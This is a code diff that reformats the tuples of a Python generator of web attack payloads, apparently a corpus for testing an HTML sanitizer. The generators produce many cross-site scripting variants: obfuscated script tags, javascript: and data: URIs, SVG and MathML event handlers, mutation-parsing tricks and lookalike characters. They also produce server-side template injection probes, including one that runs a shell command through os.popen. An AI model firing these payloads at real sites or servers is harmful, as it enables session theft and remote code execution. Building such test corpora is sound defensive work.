@@ -96,26 +96,13 @@ def _scripts() -> Iterator[str]:
         yield f"{before}<script>{call}</script>"
     bodies = (f"<!--\n{CALL}\n-->", f"/*<![CDATA[*/{CALL}/*]]>*/", f"\u2028{CALL}", f"{CALL}//")
     heads = (
-        "",
-        " type=module",
-        " defer",
-        " type=text/javascript",
-        " language=vbs",
-        "/x",
-        "\t",
-        "\n",
-    )
+        "", " type=module", " defer", " type=text/javascript", " language=vbs", "/x", "\t", "\n",
+    )  # fmt: skip
     for head, body in product(heads, bodies):
         yield f"<script{head}>{body}</script>"
     for case in (
-        "ScRiPt",
-        "SCRIPT",
-        "script\x00",
-        "scr\x00ipt",
-        "script\xa0",
-        "scr\u0131pt",
-        "\u017fcript",
-    ):
+        "ScRiPt", "SCRIPT", "script\x00", "scr\x00ipt", "script\xa0", "scr\u0131pt", "\u017fcript",
+    ):  # fmt: skip
         yield f"<{case}>{CALL}</{case}>"
     for address in (
         ELSEWHERE,
@@ -136,15 +123,8 @@ def _scripts() -> Iterator[str]:
 
 
 _SCHEMES = (
-    "javascript",
-    "JaVaScRiPt",
-    "vbscript",
-    "livescript",
-    "mocha",
-    "data",
-    "blob",
-    "view-source",
-)
+    "javascript", "JaVaScRiPt", "vbscript", "livescript", "mocha", "data", "blob", "view-source",
+)  # fmt: skip
 
 
 def addresses() -> Iterator[str]:
@@ -180,14 +160,9 @@ def addresses() -> Iterator[str]:
     page = f"<script>{CALL}</script>"
     encoded = base64.b64encode(page.encode()).decode()
     for kind in (
-        "text/html",
-        "image/svg+xml",
-        "text/xml",
-        "application/xhtml+xml",
-        "",
-        "text/html;charset=utf-7",
-        "TEXT/HTML",
-    ):
+        "text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "",
+        "text/html;charset=utf-7", "TEXT/HTML",
+    ):  # fmt: skip
         yield f"data:{kind},{page}"
         yield f"data:{kind};base64,{encoded}"
         yield f"data:{kind},{quote(page)}"
@@ -257,34 +232,16 @@ def _drawings() -> Iterator[str]:
     for element, values in product(("animate", "set"), ("to", "from", "values", "by")):
         yield f"<svg><a id=x><rect width=9 height=9 /></a><{element} href=#x attributeName=href {values}=javascript:{CALL} />"
     for element in (
-        "circle",
-        "g",
-        "path",
-        "image",
-        "text",
-        "use",
-        "foreignObject",
-        "filter",
-        "title",
-        "desc",
-        "view",
-        "discard",
-    ):
+        "circle", "g", "path", "image", "text", "use", "foreignObject", "filter", "title", "desc",
+        "view", "discard",
+    ):  # fmt: skip
         yield f"<svg><{element} onload={CALL}>"
         yield f"<svg><{element}><img src=x onerror={CALL}>"
         yield f"<svg xmlns='http://www.w3.org/2000/svg'><{element} onclick={CALL} tabindex=1 autofocus onfocus={CALL} />"
     for element in (
-        "mtext",
-        "mi",
-        "mo",
-        "mn",
-        "ms",
-        "mglyph",
-        "malignmark",
-        "annotation-xml",
-        "maction",
+        "mtext", "mi", "mo", "mn", "ms", "mglyph", "malignmark", "annotation-xml", "maction",
         "semantics",
-    ):
+    ):  # fmt: skip
         yield f"<math><{element}><img src=x onerror={CALL}></{element}>"
         yield f"<math><{element} xlink:href=javascript:{CALL}>x"
         yield f"<math><{element} href='javascript:{CALL}' actiontype=statusline#x>x</{element}></math>"
@@ -301,27 +258,13 @@ def _drawings() -> Iterator[str]:
 def _mutations() -> Iterator[str]:
     """Texts that change their meaning when a page is written out and read again."""
     roots = (
-        "<svg>",
-        "<math>",
-        "<svg></p>",
-        "<math><mtext>",
-        "<svg><desc>",
-        "<svg><title>",
+        "<svg>", "<math>", "<svg></p>", "<math><mtext>", "<svg><desc>", "<svg><title>",
         "<form><math><mtext></form><form>",
-    )
+    )  # fmt: skip
     raw = (
-        "style",
-        "noscript",
-        "noembed",
-        "xmp",
-        "title",
-        "textarea",
-        "iframe",
-        "noframes",
-        "script",
-        "plaintext",
-        "template",
-    )
+        "style", "noscript", "noembed", "xmp", "title", "textarea", "iframe", "noframes", "script",
+        "plaintext", "template",
+    )  # fmt: skip
     ends = (
         f'<img title="</{{0}}><img src=x onerror={CALL}>">',
         f'<a title="</{{0}}><img src=x onerror={CALL}>">',
@@ -342,19 +285,9 @@ def _mutations() -> Iterator[str]:
 
 def _comments() -> Iterator[str]:
     opened = (
-        "<!--",
-        "<!-->",
-        "<!--->",
-        "<!",
-        "<?",
-        "</!",
-        "<!--!",
-        "<!---!>",
-        "<!--[if IE]>",
-        "<!--[if gte IE 4]>",
-        "<comment>",
-        "<%",
-    )
+        "<!--", "<!-->", "<!--->", "<!", "<?", "</!", "<!--!", "<!---!>", "<!--[if IE]>",
+        "<!--[if gte IE 4]>", "<comment>", "<%",
+    )  # fmt: skip
     for before, tail in product(opened, ("-->", "--!>", ">", "")):
         yield f"{before}<img src=x onerror={CALL}>{tail}"
         yield f"{before}><script>{CALL}</script>{tail}"
@@ -384,15 +317,9 @@ def _references() -> Iterator[str]:
 def _lookalikes() -> Iterator[str]:
     """Characters that some conversion turns into those that matter."""
     angles = (
-        "\uff1c\uff1e",
-        "\u2039\u203a",
-        "\u3008\u3009",
-        "\u27e8\u27e9",
-        "\ufe64\ufe65",
-        "\u02c2\u02c3",
-        "\u1438\u1433",
-        "\xab\xbb",
-    )
+        "\uff1c\uff1e", "\u2039\u203a", "\u3008\u3009", "\u27e8\u27e9", "\ufe64\ufe65",
+        "\u02c2\u02c3", "\u1438\u1433", "\xab\xbb",
+    )  # fmt: skip
     for pair, call in product(angles, _CALLS[:4]):
         yield f"{pair[0]}script{pair[1]}{call}{pair[0]}/script{pair[1]}"
         yield f"{pair[0]}img src=x onerror={call}{pair[1]}"
@@ -413,15 +340,10 @@ def _lookalikes() -> Iterator[str]:
 def _templates() -> Iterator[str]:
     """What template languages of servers and browsers would evaluate."""
     inside = (
-        "7*7",
-        "constructor.constructor('ran(1)')()",
-        "$on.constructor('ran(1)')()",
-        "''.__class__.__mro__[1].__subclasses__()",
-        "config",
-        "self.__init__.__globals__",
-        "request.application",
-        "cycler.__init__.__globals__.os.popen('id').read()",
-    )
+        "7*7", "constructor.constructor('ran(1)')()", "$on.constructor('ran(1)')()",
+        "''.__class__.__mro__[1].__subclasses__()", "config", "self.__init__.__globals__",
+        "request.application", "cycler.__init__.__globals__.os.popen('id').read()",
+    )  # fmt: skip
     marks = (
         ("{{", "}}"),
         ("{%", "%}"),
@@ -441,19 +363,9 @@ def _templates() -> Iterator[str]:
     for (begin, end), what in product(marks, inside):
         yield f"{begin}{what}{end}"
     for name in (
-        "ng-app ng-init",
-        "v-html",
-        "x-data x-init",
-        "@click",
-        ":href",
-        "data-bind",
-        "hx-on:load",
-        "hx-get",
-        "data-ng-click",
-        "_",
-        "on:click",
-        "bind:innerHTML",
-    ):
+        "ng-app ng-init", "v-html", "x-data x-init", "@click", ":href", "data-bind", "hx-on:load",
+        "hx-get", "data-ng-click", "_", "on:click", "bind:innerHTML",
+    ):  # fmt: skip
         yield f'<div {name}="{CALL}">x</div>'
         yield f'" {name}="{CALL}'
 
@@ -463,33 +375,13 @@ def _documents() -> Iterator[str]:
     yield f'<iframe srcdoc="<script>parent.{CALL}</script>">'
     yield f"<iframe srcdoc='&lt;script&gt;parent.{CALL}&lt;/script&gt;'>"
     for tag in (
-        "img src",
-        "iframe src",
-        "object data",
-        "embed src",
-        "audio src",
-        "video src",
-        "video poster",
-        "link rel=stylesheet href",
-        "link rel=prefetch href",
-        "link rel=dns-prefetch href",
-        "input type=image src",
-        "image src",
-        "source srcset",
-        "track src",
-        "base href",
-        "frame src",
-        "script src",
-        "portal src",
-        "img srcset",
-        "body background",
-        "svg><image href",
-        "svg><use href",
-        "svg><feImage href",
-        "bgsound src",
-        "layer src",
-        "meta http-equiv=refresh content=0;url",
-    ):
+        "img src", "iframe src", "object data", "embed src", "audio src", "video src",
+        "video poster", "link rel=stylesheet href", "link rel=prefetch href",
+        "link rel=dns-prefetch href", "input type=image src", "image src", "source srcset",
+        "track src", "base href", "frame src", "script src", "portal src", "img srcset",
+        "body background", "svg><image href", "svg><use href", "svg><feImage href", "bgsound src",
+        "layer src", "meta http-equiv=refresh content=0;url",
+    ):  # fmt: skip
         for mark in ("", "'", '"'):
             yield f"<{tag}={mark}{ELSEWHERE}{mark}>"
     for tag in ("form action", "a href", "area href", "button formaction", "a ping"):
